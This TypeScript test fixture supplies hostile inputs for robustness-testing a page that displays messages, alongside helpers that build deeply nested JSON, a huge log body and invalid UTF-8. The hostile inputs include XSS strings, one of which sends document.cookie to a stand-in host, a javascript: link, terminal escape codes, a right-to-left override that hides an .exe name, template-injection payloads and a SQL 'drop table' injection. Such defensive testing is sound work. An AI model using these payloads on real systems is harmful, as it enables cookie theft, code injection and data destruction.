// What a page that shows calls must survive: scripts, escapes, text that turns around, bytes that are no text, great sizes.

export const hostileTexts: readonly string[] = [
  `<script>document.title = "owned"; fetch("https://evil.invalid/" + document.cookie)</script> Is my order on its way?`,
  `<img src="https://evil.invalid/pixel.png" onerror="alert(1)"> <svg onload=alert(2)> "><iframe srcdoc="<script>top.location='//evil.invalid'</script>">`,
  `[a link](javascript:alert(document.domain)) and ![a picture](https://evil.invalid/track.gif?who=me)`,
  "\u001B[2J\u001B[1;31mThis would clear a terminal\u001B[0m and ring \u0007 and \u001B]8;;https://evil.invalid\u0007lead away\u001B]8;;\u0007",
  "The file is called invoice\u202Efdp.exe and \u2067יום טוב, abc 123\u2069 stands beside it.",
  `Z\u0335\u0321a\u0334\u0322l\u0336\u0323g\u0337\u0324o\u0338\u0325 ${"\u0301".repeat(200)} and \u200B\u200B\u200B nothing between`,
  "{{constructor.constructor('return process')()}} ${7*7} <%= 7*7 %> '; drop table orders; --",
  `One word without an end: ${"a".repeat(8000)}`,
];

const DEPTH = 900;

export function deepJson(): string {
  return `${'{"a":'.repeat(DEPTH)}1${"}".repeat(DEPTH)}`;
}

/** A body of about a megabyte. */
export function greatText(): string {
  return "Line after line of a log that somebody pasted whole: 2026-11-17T08:12:44Z warehouse INFO pallet moved\n".repeat(
    10_300,
  );
}

/** JSON in which a text is not UTF-8. */
export function brokenBody(model: string): Uint8Array {
  const whole = Buffer.from(
    JSON.stringify({ model, messages: [{ role: "user", content: "Gr@@e aus K@ln, wo ist mein Paket?" }] }),
  );
  for (const [at, byte] of whole.entries()) if (byte === 0x40) whole[at] = 0xfc;
  return whole;
}
